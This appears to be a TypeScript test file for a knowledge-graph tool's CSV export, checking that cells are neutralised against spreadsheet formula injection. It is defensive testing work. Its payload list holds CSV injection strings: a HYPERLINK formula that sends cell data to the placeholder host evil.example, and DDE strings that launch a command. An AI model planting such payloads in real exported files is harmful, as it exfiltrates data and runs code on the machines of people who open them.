/**
 * Issue 10, attack 4, at the writer: CSV for spreadsheets (kg query
 * --format csv, the console's CSV download) neutralises cells a spreadsheet
 * would run as formulas (OWASP "CSV Injection"); the neo4j-admin CSV export
 * keeps every value exact. End to end, on an ingested article:
 * extractor/test/security/csv-formulas.test.ts and viewer/test/security.test.ts.
 */
import { createGraph } from '@kg/graph-schema';
import { spreadsheetCell, toCsv, toSpreadsheetCsv } from '../src';
import { readCsv, spreadsheetReads } from './csv-reader';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Read more")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

test('every cell that starts with = + - @ tab or CR is read as a formula when written plainly (the attack), and as text once neutralised', () => {
  for (const p of PAYLOADS) {
    expect(spreadsheetReads(p)).toBe('formula');
    const [[cell]] = readCsv(`${spreadsheetCell(p)}\n`) as [[string]];
    expect(cell).toBe(`'${p}`);
    expect(spreadsheetReads(cell)).toBe('text');
  }
});

test('the neutralised cell is quoted, with its quotes doubled; ordinary text is left alone', () => {
  expect(spreadsheetCell('=1+1')).toBe(`"'=1+1"`);
  expect(spreadsheetCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  expect(spreadsheetCell('Vladimir Putin')).toBe('Vladimir Putin');
  expect(spreadsheetCell('Moscow, Kremlin')).toBe('"Moscow, Kremlin"');
  expect(spreadsheetCell('a = b')).toBe('a = b');
  expect(spreadsheetCell('')).toBe('');
});

test('rows: numbers stay numbers (-5 is no formula), text and header cells are neutralised, nodes and lists are JSON', () => {
  const csv = toSpreadsheetCsv(['=name', 'n', 'list', 'node'], [
    { '=name': '-Putin', n: -5, list: ['=a', 1], node: { kind: 'node', elementId: '4:x:1', labels: ['Actor'], properties: { name: '=x' } } },
    { '=name': null, n: 2.5, list: [], node: null },
  ]);
  const rows = readCsv(csv);
  expect(rows[0]).toEqual(["'=name", 'n', 'list', 'node']);
  expect(rows[1]!.slice(0, 3)).toEqual(["'-Putin", '-5', '["=a",1]']);
  expect(JSON.parse(rows[1]![3]!)).toMatchObject({ properties: { name: '=x' } });
  expect(rows[2]).toEqual(['', '2.5', '[]', '']);
  for (const row of rows) for (const cell of row) if (!/^-?\d/.test(cell)) expect(spreadsheetReads(cell)).toBe('text');
});

test('the neo4j-admin CSV export keeps a formula-like value exactly: it is for a database, not a spreadsheet', () => {
  const g = createGraph();
  const title = '=HYPERLINK("http://evil.example/?d="&A1,"Read more")';
  g.addNode('Article:a1', { label: 'Article', id: 'a1', title, url: null, published: null, publisher: null, source: null });
  const file = toCsv(g).files['nodes_Article.csv']!;
  const [header, row] = readCsv(file);
  expect(row![header!.indexOf('title')]).toBe(title);
});
